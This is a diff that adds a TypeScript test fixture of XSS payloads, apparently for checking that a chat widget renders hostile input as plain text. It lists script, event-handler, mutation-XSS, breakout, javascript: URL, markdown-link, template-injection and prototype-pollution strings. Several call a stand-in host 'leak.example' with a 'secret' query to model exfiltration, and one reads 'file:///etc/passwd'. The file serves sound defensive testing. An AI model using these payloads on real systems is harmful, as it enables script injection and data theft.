@@ -1,0 +1,206 @@
+/** Whatever runs calls this; `watch-page.ts` puts it into each page, beside alert and its like. */
+const RUN = 'canary(1)'
+/** A host that nothing may ever be asked of. */
+export const LEAK_HOST = 'leak.example'
+const LEAK = `https://${LEAK_HOST}/p?q=secret`
+
+const ELEMENTS = [
+  `<script>${RUN}</script>`,
+  `<ScRiPt>${RUN}</sCrIpT>`,
+  `<script src=${LEAK}></script>`,
+  `<script type=module>import '${LEAK}'</script>`,
+  `<script>import('${LEAK}')</script>`,
+  `<script\n>${RUN}</script\n>`,
+  `<script/x>${RUN}</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<iframe src="javascript:parent.${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<link rel=stylesheet href=${LEAK}>`,
+  `<link rel=prefetch href=${LEAK}>`,
+  `<style>@import '${LEAK}';</style>`,
+  `<style>*{background:url(${LEAK})}</style>`,
+  `<meta http-equiv=refresh content="0;url=${LEAK}">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<base href="https://${LEAK_HOST}/">`,
+  `<form action=${LEAK}><input name=q autofocus onfocus=${RUN}><button>Go</button></form>`,
+  `<button form=x formaction="javascript:${RUN}">Go</button>`,
+  `<template><script>${RUN}</script></template>`,
+  `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
+  `<applet code=${LEAK}></applet>`,
+  `<portal src=${LEAK}></portal>`,
+  `<dialog open onclose=${RUN}>x</dialog>`,
+  `<slot name=x onslotchange=${RUN}></slot>`,
+  `<counterbell-chat onclick=${RUN}></counterbell-chat>`,
+  `<!--><script>${RUN}</script>-->`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<?xml-stylesheet href="javascript:${RUN}"?>`,
+]
+
+const HANDLERS = [
+  `<img src=x onerror=${RUN}>`,
+  `<img src=x onerror="${RUN}"//`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<img src=x:x onerror\n=\n${RUN}>`,
+  `<img src="${LEAK}">`,
+  `<img srcset="${LEAK} 1x">`,
+  `<img src=x oNeRrOr=canary&lpar;1&rpar;>`,
+  `<img src=x onerror=&#99;&#97;&#110;&#97;&#114;&#121;(1)>`,
+  `<svg onload=${RUN}>`,
+  `<svg/onload=${RUN}//`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text x=9 y=9>x</text></a></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><set attributeName=href to="javascript:${RUN}">`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>">`,
+  `<body onload=${RUN}>`,
+  `<video autoplay src=x onerror=${RUN}></video>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<audio src=x onerror=${RUN}>`,
+  `<details open ontoggle=${RUN}>x</details>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<textarea autofocus onfocus=${RUN}></textarea>`,
+  `<select autofocus onfocus=${RUN}></select>`,
+  `<p contenteditable autofocus onfocus=${RUN}>x</p>`,
+  `<p style="animation:x 1s" onanimationstart=${RUN}>x</p>`,
+  `<p style="background:url(${LEAK})">x</p>`,
+  `<p onpointerrawupdate=${RUN} onmouseover=${RUN}>x</p>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
+]
+
+/** What a parser writes out in another way than it read it. */
+const MUTATIONS = [
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
+  `<math><mi><table><mi><style><!--</style><img title="--><img src=1 onerror=${RUN}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  `<title></title><img src=x onerror=${RUN}>`,
+  `<xmp></xmp><img src=x onerror=${RUN}>`,
+  `<textarea></textarea><img src=x onerror=${RUN}>`,
+  `<a href="&#1;javascript:${RUN}">x</a>`,
+  `<div id="x\`<p style='\`onmouseover=${RUN}//'>`,
+  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
+]
+
+const BREAKOUTS = [
+  `"><img src=x onerror=${RUN}>`,
+  `'><img src=x onerror=${RUN}>`,
+  `" onmouseover="${RUN}" autofocus onfocus="${RUN}`,
+  `' onfocus='${RUN}' autofocus='`,
+  `\` onmouseover=${RUN} \``,
+  `--><script>${RUN}</script><!--`,
+  `]]><script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</title></style></template><svg onload=${RUN}>`,
+  `*/${RUN}/*`,
+  `';${RUN};//`,
+  `";${RUN};//`,
+  `\\";${RUN};//`,
+  `\u2028${RUN}\u2029`,
+  `data: {"type":"error","code":"internal"}`,
+  `\n\nevent: done\ndata: {"type":"done"}\n\n`,
+]
+
+/** What would lead or load somewhere. */
+export const ADDRESSES: readonly string[] = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `java\tscript:${RUN}`,
+  ` javascript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `javascript://shop.example/%0a${RUN}`,
+  `vbscript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FuYXJ5KDEpPC9zY3JpcHQ+`,
+  `blob:https://shop.example/x`,
+  `file:///etc/passwd`,
+  `//${LEAK_HOST}/x`,
+  LEAK,
+  `https://shop.example@${LEAK_HOST}/`,
+  `https://${LEAK_HOST}\\@shop.example/`,
+  `http://[::1]:1/${LEAK_HOST}`,
+  `mailto:x@${LEAK_HOST}?body=secret`,
+  `[press](javascript:${RUN})`,
+  `[press](JAVASCRIPT:${RUN})`,
+  `[press]( javascript:${RUN} )`,
+  `[press](data:text/html,<script>${RUN}</script>)`,
+  `[press](vbscript:${RUN})`,
+  `[press](${LEAK})`,
+  `[https://shop.example](${LEAK})`,
+  `[press](<javascript:${RUN}>)`,
+  `[press](https://shop.example" onmouseover="${RUN})`,
+  `[press]: javascript:${RUN}\n\n[press]`,
+  `![pixel](${LEAK})`,
+  `![pixel](javascript:${RUN})`,
+  `![pixel](https://${LEAK_HOST}/'onerror='${RUN})`,
+  `[![x](${LEAK})](${LEAK})`,
+  `<javascript:${RUN}>`,
+  `<${LEAK}>`,
+  `**[press](javascript:${RUN})** [1] [99] [1](javascript:${RUN})`,
+  `- [press](javascript:${RUN})\n- ![x](${LEAK})`,
+]
+
+const TEMPLATES = [
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}`,
+  `<%= ${RUN} %>`,
+  `#{${RUN}}`,
+  `{%- ${RUN} -%}`,
+  `\`\${${RUN}}\``,
+  `$&$1$\`$'`,
+  `%s%n%x %1$s`,
+  `__proto__`,
+  `url(${LEAK})`,
+  `expression(${RUN})`,
+  `red; background: url(${LEAK})`,
+]
+
+const vnode = (props: object, more: object = {}) =>
+  JSON.stringify({ type: 'div', key: null, ref: null, __v: 1, ...more, props })
+const HTML = { dangerouslySetInnerHTML: { __html: `<img src=x onerror=${RUN}>` } }
+
+const OBJECTS = [
+  vnode(HTML),
+  vnode(HTML, { constructor: undefined, __k: null, __: null, __b: 0, __e: null, __c: null }),
+  vnode({ children: [{ type: 'script', props: { children: RUN } }] }),
+  vnode({ srcdoc: `<script>parent.${RUN}</script>` }, { type: 'iframe' }),
+  `[${vnode(HTML)}]`,
+  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<b>"}}}',
+  '{"toString":1}',
+]
+
+/** Text that a screen may show otherwise than it is, or stumble over. */
+const SHAPES = [
+  '\u202Egnp.exe\u202C',
+  '\u2066a\u2069\u2067b\u2069',
+  'a\u200Bb\u2060c\uFEFFd',
+  'NUL\u0000<b>x</b>\u0000',
+  `Z${'\u0335\u0321'.repeat(60)}`,
+  '\u{E0041}\u{E0042}tagged',
+  'line\u2028line\u2029paragraph\u0085end',
+  '  two  blanks\tand\ttabs  ',
+  'one\r\ntwo\n\n\n\nthree',
+  '👩‍👩‍👧‍👧 🏳️‍🌈 🔔',
+  'שלום <b>עולם</b> مرحبا',
+  `${'x'.repeat(3000)}<img src=x onerror=${RUN}>`,
+  '<'.repeat(2000),
+  '**'.repeat(1000),
+  `${'['.repeat(500)}x${'](y)'.repeat(500)}`,
+]
+
+/** Own payloads, each to be shown as the text that it is. */
+export const PAYLOADS: readonly string[] = [
+  ...ELEMENTS,
+  ...HANDLERS,
+  ...MUTATIONS,
+  ...BREAKOUTS,
+  ...ADDRESSES,
+  ...TEMPLATES,
+  ...OBJECTS,
+  ...SHAPES,
+]
